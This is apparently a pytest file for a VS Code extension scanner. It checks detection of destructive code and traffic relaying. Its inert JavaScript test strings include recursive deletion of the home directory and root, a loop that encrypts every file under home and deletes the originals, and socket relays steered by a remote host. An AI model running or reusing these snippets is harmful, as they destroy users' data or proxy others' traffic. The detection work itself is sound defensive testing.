"""Files that are deleted or encrypted, and traffic of others. Payloads are inert: nothing runs."""

import pytest

from tests.flows import findings_of, worst
from vscan.model import Severity
from vscan.providers.offline.checks.destruction import CHECK

RULE, RELAY = "destruction", "traffic-relay"
START = """
const fs = require("fs"), os = require("os"), path = require("path"), vscode = require("vscode");
const crypto = require("crypto"), net = require("net"), home = os.homedir();
"""
WALK = """
function walk(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const file = path.join(dir, e.name);
    if (e.isDirectory()) walk(file);
    else each(file);
  }
}
"""


@pytest.mark.parametrize(
    "source",
    [
        "fs.rmSync(home, { recursive: true, force: true });",
        "fs.rm(os.homedir(), { recursive: true }, () => {});",
        "fs.promises.rm(path.join(home, 'Documents'), { recursive: true });",
        "fs.rmdirSync('/', { recursive: true });",
        "require('rimraf').sync(home);",
        "const { sync } = require('rimraf'); sync(home);",
        "require('fs-extra').emptyDirSync(home);",
        (
            "for (const f of vscode.workspace.workspaceFolders)"
            " fs.rmSync(f.uri.fsPath, { recursive: true });"
        ),
        (
            "vscode.workspace.fs.delete(vscode.workspace.workspaceFolders[0].uri,"
            " { recursive: true });"
        ),
        WALK + "function each(f) { const c = crypto.createCipheriv('aes-256-cbc', key, iv);"
        " fs.writeFileSync(f + '.l', c.update(fs.readFileSync(f))); fs.unlinkSync(f); }"
        " walk(home);",
        WALK + "function each(f) { fs.writeFileSync(f, 'x'); } walk(home);",
        WALK.replace("each(file)", "fs.writeFileSync(file, 'x')") + "walk(home);",
    ],
)
def test_destruction_is_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) >= Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "fs.rmSync(path.join(os.tmpdir(), 'a'), { recursive: true });",
        "fs.rmSync(path.join(__dirname, 'cache'), { recursive: true });",
        "fs.rmSync(path.join(home, '.cache', 'a'), { recursive: true });",
        "fs.rmSync(path.join(home, 'Documents', 'a.txt'));",
        "fs.unlinkSync(home);",
        "fs.readdirSync(home, { recursive: true });",
        (
            "async function f() { const ok = await vscode.window.showWarningMessage("
            "'Delete all files?', 'Yes'); if (ok) fs.rmSync(home, { recursive: true }); }"
        ),
        (
            "async function f(file) { const key = await vscode.window.showInputBox();"
            " const c = crypto.createCipheriv('aes-256-cbc', key, iv);"
            " fs.writeFileSync(file, c.update(fs.readFileSync(file))); }"
        ),
        WALK + "function each(f) { show(fs.readFileSync(f)); } walk(home);",
        "const c = crypto.createCipheriv('aes-256-cbc', key, iv); send(c.update(text));",
    ],
)
def test_a_near_miss_is_not_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) < Severity.MEDIUM


@pytest.mark.parametrize(
    "source",
    [
        """const s = net.connect(1, "a.invalid");
           s.on("data", (d) => { const [host, port] = d.toString().split(":");
             const to = net.connect(port, host); s.pipe(to); to.pipe(s); });""",
        """const w = new WebSocket("wss://a.invalid"); w.on("message", (m) => {
           const { host, port } = JSON.parse(m); const to = net.createConnection(port, host);
           to.on("data", (d) => w.send(d)); });""",
    ],
)
def test_traffic_that_is_passed_on_is_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RELAY) >= Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "net.connect(5432, 'localhost').on('data', show);",
        "const port = vscode.workspace.getConfiguration('a').get('port'); net.connect(port);",
        "const s = net.connect(1, 'localhost'); s.on('data', (d) => s.write(d));",
        """const w = new WebSocket("wss://a.invalid"); w.on("message", (m) => {
           const { host, port } = JSON.parse(m);
           const to = net.createConnection(port, host, () => { to.destroy(); show(true); }); });""",
    ],
)
def test_an_own_connection_is_no_relay(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RELAY) < Severity.MEDIUM


def test_the_message_has_the_directory_and_the_finding_the_line() -> None:
    source = """\
const home = require('os').homedir();

require('fs').rmSync(home, { recursive: true });
"""
    (finding,) = findings_of(CHECK, source)
    assert "deletes ~ " in finding.message
    assert finding.line == 3
